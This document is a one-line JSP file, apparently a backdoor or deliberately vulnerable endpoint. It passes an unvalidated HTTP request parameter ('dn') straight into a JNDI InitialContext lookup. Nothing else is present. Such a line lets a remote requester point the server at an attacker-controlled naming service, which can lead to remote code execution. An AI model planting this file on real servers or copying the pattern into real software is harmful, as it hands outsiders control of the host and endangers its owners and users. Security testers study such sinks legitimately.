<% new javax.naming.InitialContext().lookup(request.getParameter("dn")); %>
